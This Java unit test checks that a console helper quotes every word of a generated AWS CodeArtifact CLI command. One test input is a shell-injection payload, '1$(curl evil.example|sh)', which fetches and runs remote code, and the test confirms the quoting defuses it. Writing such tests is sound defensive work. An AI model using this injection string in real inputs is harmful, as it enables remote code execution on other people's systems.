package dev.wharf.console;

import static org.assertj.core.api.Assertions.assertThat;

import dev.wharf.console.ConsoleViews.PackageRef;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class InstallLinesTest {
  @Test
  void aFormatWithoutAClientGetsTheAwsCliLineWithEveryWordQuoted() {
    PackageRef generic = new PackageRef("111122223333", "acme", "app", "generic", "tools", "x", "tools/x");
    assertThat(InstallLines.of(Optional.empty(), generic, "1$(curl evil.example|sh)"))
        .startsWith("aws codeartifact list-package-version-assets --domain acme")
        .endsWith("--package-version '1$(curl evil.example|sh)'");
    assertThat(InstallLines.of(Optional.empty(), generic, "it's")).endsWith("--package-version 'it'\\''s'");
  }
}
